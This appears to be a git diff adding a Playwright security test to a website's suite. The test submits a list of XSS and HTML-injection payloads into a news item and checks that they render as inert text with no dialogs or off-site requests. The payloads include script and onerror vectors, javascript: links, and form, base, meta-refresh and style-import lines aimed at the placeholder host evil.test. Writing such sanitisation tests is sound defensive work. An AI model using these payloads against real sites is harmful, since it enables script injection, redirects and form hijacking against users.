@@ -1,5 +1,5 @@
 import AxeBuilder from '@axe-core/playwright'
-import { expect, test } from './fixtures.ts'
+import { adminApi, expect, test } from './fixtures.ts'
 
 const pages = ['/', '/news', '/nothing-here']
 
@@ -142,4 +142,54 @@ test('the enhancement script is small and the only one before anyone touches the
   })
   await page.goto(site.url, { waitUntil: 'networkidle' })
   expect(scripts.reduce((sum, size) => sum + size, 0)).toBeLessThan(6_000)
+})
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><textarea><img src=x onerror=alert(1)>',
+  '<xmp><script>alert(1)</script>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">нажми</a>',
+  '<form action="https://evil.test"><button>Отправить</button></form>',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '<style>@import "https://evil.test/x.css"</style>',
+  '{{7*7}} ${7*7} ‮txt',
+]
+
+test('N05: markup typed as text does nothing in a real browser', async ({ page, site, faults }) => {
+  const { post, delete: remove } = await adminApi(site)
+  const elsewhere: string[] = []
+  page.on('dialog', (dialog) => {
+    elsewhere.push(`dialog: ${dialog.message()}`)
+    return dialog.dismiss()
+  })
+  page.on('request', (request) => {
+    if (!request.url().startsWith(site.url) && !request.url().startsWith('data:'))
+      elsewhere.push(request.url())
+  })
+  const text = payloads.join('\n')
+  const item = await post('/api/news', {
+    title: payloads.slice(0, 3).join(' '),
+    summary: payloads.slice(3, 6).join(' '),
+    content: text,
+    imageAlt: '" onerror="alert(1)',
+    published: true,
+  })
+  for (const path of [`/news/${item.id}`, '/news', '/']) {
+    await page.goto(path, { waitUntil: 'networkidle' })
+    expect(await page.locator('main [onerror], main iframe, main form[action*=evil]').count()).toBe(
+      0,
+    )
+  }
+  await page.goto(`/news/${item.id}`)
+  for (const payload of payloads.slice(0, 10))
+    await expect(page.getByText(payload, { exact: false }).first()).toBeAttached()
+  expect(elsewhere).toEqual([])
+  expect(faults).toEqual([])
+  await remove(`/api/news/${item.id}`)
 })
